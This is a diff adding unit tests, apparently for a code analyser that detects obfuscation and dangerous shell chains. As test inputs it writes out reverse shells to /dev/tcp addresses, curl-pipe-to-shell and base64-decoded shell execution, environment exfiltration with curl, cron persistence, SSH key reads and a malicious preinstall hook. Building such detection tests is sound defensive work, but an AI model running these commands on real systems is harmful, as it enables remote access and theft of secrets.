@@ -127,8 +127,10 @@ static void texts_that_are_told(void **state)
 	               "host:c2.example.com");
 	assert_strings(state, "python", "f('curl -s http://a | sh', 'sh is a shell', '/bin/sh -c x', 'cat and dog')",
 	               "command:curl -s http://a | sh command:/bin/sh -c x");
-	assert_strings(state, "python", "f(bytes.fromhex('68696464656e2121'))", "");
+	assert_strings(state, "python", "f(bytes.fromhex('68696464656e2121'))", "decoded:hidden!!");
 	assert_strings(state, "python", "x = 'hidden!!'[::-1]", "decoded:!!neddih");
+	assert_strings(state, "javascript", "let t = Buffer.from('aHR0cDovL2EuZXhhbXBsZS5jb20veA==', 'base64'); t = 2",
+	               "url:http://a.example.com/x");
 }
 
 static void numbers(void **state)
@@ -141,6 +143,22 @@ static void numbers(void **state)
 	assert_json(at(facts, "code", "dynamic_imports", NULL), "1");
 	assert_json(at(facts, "code", "measures", "hex_names", NULL), "250"); /* 3 of 12 names */
 	assert_json(at(facts, "code", "measures", "brackets", NULL), "750");  /* 3 of 4 */
+	json_decref(facts);
+	char far[200] = "f();";
+	memset(far + 4, ' ', 120);
+	strcpy(far + 124, "g(1);\nh();");
+	facts = facts_of_text(state, far, "", "javascript");
+	assert_json(at(facts, "code", "measures", "far_right", NULL), "5");
+	json_decref(facts);
+	memcpy(far + 124, "//g()", 5);
+	facts = facts_of_text(state, far, "", "javascript");
+	assert_json(at(facts, "code", "measures", "far_right", NULL), "0");
+	json_decref(facts);
+	facts = facts_of_text(state, "IlIIllI1(O0OO0O00, ________, Illinois1, Ill)", "", "javascript");
+	assert_json(at(facts, "code", "measures", "hex_names", NULL), "400"); /* 2 of 5 */
+	json_decref(facts);
+	facts = facts_of_text(state, "setTimeout(function () { x = atob(y); eval(z) }, 9)", "", "javascript");
+	assert_json(at(facts, "code", "measures", "decode_eval", NULL), "0");
 	json_decref(facts);
 	facts = facts_of_text(state, "f('\\x61\\x62'); f(process.env.NPM_TOKEN, process.env['HOME'])", "", "javascript");
 	assert_json(at(facts, "code", "measures", "escapes", NULL), "500"); /* 8 of 16 bytes */
@@ -179,11 +197,15 @@ static void shell_chains(void **state)
 	assert_calls(state, "shell", "echo 'curl u' | bash", "bash()<echo=curl u curl(\"u\")");
 	assert_calls(state, "shell", "echo Y3VybCB1 | base64 -d | sh",
 	             "base64(\"-d\")<echo=Y3VybCB1 sh()!<echo|base64=curl u curl(\"u\")");
-	assert_calls(state, "shell", "$(printf 'Y3VybA==' | base64 -d) v", "base64(\"-d\")<printf=Y3VybA== curl(\"v\")<printf|base64");
+	assert_calls(state, "shell", "$(printf 'Y3VybA==' | base64 -d) v",
+	             "base64(\"-d\")<printf=Y3VybA== curl(\"v\")<printf|base64");
 	assert_calls(state, "shell", "sh -c 'nc a | sh'; eval nc b; bash <<E\nnc c\nE\nnc d",
 	             "sh(\"-c\",\"nc a | sh\") nc(\"a\") sh()<nc nc(\"b\") bash()=nc c\\x0a nc(\"c\") nc(\"d\")");
 	assert_calls(state, "shell", "bash -i >& /dev/tcp/198.51.100.7/9 0>&1; exec 5<>/dev/tcp/198.51.100.7/9",
 	             "bash(\"-i\")>/dev/tcp/198.51.100.7/9 exec()>/dev/tcp/198.51.100.7/9");
+	assert_calls(state, "shell", "exec 196<>/dev/tcp/a/9; sh <&196 >&196 2>&196", "exec()>/dev/tcp/a/9 sh() < 196");
+	assert_calls(state, "shell", "A=$(env | base64); curl -d \"$A\" u",
+	             "base64()<env curl(\"-d\",\"$A\",\"u\")<env|base64");
 	assert_calls(state, "shell", "cat >/etc/cron.d/x 2>/dev/null <<-E\n\tnc a\n\tE\nnc b < ~/.ssh/id_rsa",
 	             "cat()>/etc/cron.d/x=\\x09nc a\\x0a nc(\"b\") < ~/.ssh/id_rsa");
 	assert_calls(state, "shell", "echo k >>~/.ssh/authorized_keys; echo k >out; cp a b; cp a /etc/b",
@@ -191,6 +213,20 @@ static void shell_chains(void **state)
 	json_t *facts = facts_of_text(state, "echo \"aa\" | base64 -d | sh", "", "shell");
 	assert_json(at(facts, "code", "measures", "decode_eval", NULL), "1");
 	assert_json(at(facts, "code", "measures", "strings", NULL), "1");
+	json_decref(facts);
+}
+
+/* Commands of a package's metadata are a shell's, those that run at installation. */
+static void commands_of_metadata(void **state)
+{
+	static const char text[] = "{\"name\": \"a\", \"scripts\": {\"preinstall\": \"curl u | sh\", \"test\": \"curl v\"}}";
+	json_t *facts = facts_of(state, text, strlen(text), "package.json", "json");
+	char *line = calls_line(facts);
+	assert_string_equal(line, "curl(\"u\") sh()<curl");
+	free(line);
+	json_decref(facts);
+	facts = facts_of(state, "{\"name\": \"a\"}", 13, "package.json", "json");
+	assert_null(at(facts, "code", NULL));
 	json_decref(facts);
 }
 
@@ -407,6 +443,7 @@ int main(void)
 	    cmocka_unit_test(texts_that_are_told),
 	    cmocka_unit_test(shell_words),
 	    cmocka_unit_test(shell_chains),
+	    cmocka_unit_test(commands_of_metadata),
 	    cmocka_unit_test(numbers),
 	    cmocka_unit_test(bombs),
 	    cmocka_unit_test(values_that_grow),
